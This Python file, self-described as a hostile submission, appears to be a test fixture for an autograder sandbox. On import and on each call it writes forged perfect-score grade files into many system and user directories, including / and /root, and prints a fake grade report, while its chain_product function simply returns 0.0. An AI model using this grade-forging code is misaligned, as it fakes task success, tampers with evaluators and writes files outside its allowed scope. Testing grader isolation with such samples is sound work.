"""Forges grade files and prints a fake grade report.

Trick: writes results.json (Gradescope format, score 100), grades.csv and a
fake `rnngrade --json` document into every folder it can guess (cwd, ../,
~, /tmp, /var/tmp, /dev/shm, the repository found through numpy.__file__,
/proc/<ppid>/cwd, /srv, /opt...), at import and again when called, and prints the
fake JSON on stdout. The sandbox's writable folders are private to the
child, stdout is captured and never parsed.
"""
import json
import os
import sys

import numpy as np

MARK = "FORGED-BY-HOSTILE-SUBMISSION"
FAKE = {"submissions": [{"student": "forge_results", "score": 100, "max_score": 100,
                         "status": "graded", "questions": []}], "mark": MARK}


def _targets():
    dirs = {os.getcwd(), os.path.abspath(".."), os.path.expanduser("~"), "/tmp", "/var/tmp",
            "/dev/shm", "/srv", "/opt", "/home", "/root", "/"}
    p = os.path.dirname(np.__file__)
    while p not in ("/", ""):
        dirs.add(p)
        p = os.path.dirname(p)
    for link in ("/proc/%d/cwd" % os.getppid(), "/proc/1/cwd"):
        try:
            dirs.add(os.path.realpath(link))
        except OSError:
            pass
    for sub in ("out", "results", "grades", "autograder", "feedback"):
        dirs.add(os.path.join(os.getcwd(), "..", sub))
    return sorted(dirs)


def forge():
    written = []
    for d in _targets():
        for name, text in (("results.json", json.dumps({"score": 100, "mark": MARK})),
                           ("grades.csv", "student,score\nforge_results,100\n# " + MARK + "\n"),
                           ("grades.json", json.dumps(FAKE))):
            path = os.path.join(d, name)
            try:
                with open(path, "w") as f:
                    f.write(text)
                written.append(os.path.realpath(path))
            except OSError:
                pass
    print(json.dumps(FAKE))
    sys.stdout.flush()
    return written


forge()


# ---- tests/files/zeros.py goes here (the SPEC.md functions as zeros); what follows overrides it ----


def chain_product(factors):
    forge()
    return 0.0
